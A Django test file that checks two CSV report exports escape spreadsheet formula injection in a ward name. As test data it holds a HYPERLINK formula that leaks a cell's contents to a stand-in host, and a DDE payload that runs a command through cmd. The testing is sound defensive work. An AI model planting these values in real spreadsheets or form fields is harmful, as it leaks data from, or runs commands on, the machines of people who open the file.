"""Spreadsheet formula injection (issue 12, What was seen 5): the board summary CSV that commissioners
receive and the collaborative's wards CSV neutralise a hostile ward name, and keep RRP's numbers as
numbers."""

from __future__ import annotations

import csv
import io

from django.urls import reverse

from rrp.organisations.models import Ward
from tests.helpers import signed_in_client
from tests.integration.reports import test_collaborative

cohort = test_collaborative.cohort  # the collaborative's fixture: wards a1 and c1 with figures

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _rename(world, key: str, name: str) -> None:
    Ward.objects.filter(pk=world.wards[key].pk).update(name=name)
    world.wards[key].name = name


def test_board_summary_csv_neutralises_a_formula_in_a_ward_name(board_world):
    _rename(board_world, "a1", HOSTILE)
    client = signed_in_client(board_world.users["provider_governance"])
    response = client.get(reverse("reports:board-csv", args=(board_world.providers[0].pk,)))
    rows = [r for r in _rows(response) if r["ward"].endswith(HOSTILE)]
    assert rows and {r["ward"] for r in rows} == {"'" + HOSTILE}
    restraint = next(r for r in rows if r["measure"].startswith("Restrictive"))
    assert (restraint["count"], restraint["value"]) == ("12", "12.0")


def test_collaborative_wards_csv_neutralises_a_formula_in_a_ward_name(cohort):
    _rename(cohort, "a1", "@SUM(1+1)*cmd|' /C calc'!A0")
    client = signed_in_client(cohort.users["provider_governance"])
    response = client.get(reverse("reports:collaborative-csv", args=[cohort.collaborative.pk]))
    rows = {r["ward"]: r for r in _rows(response)}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows
    assert rows["'@SUM(1+1)*cmd|' /C calc'!A0"]["restrictive_interventions"] == "7"
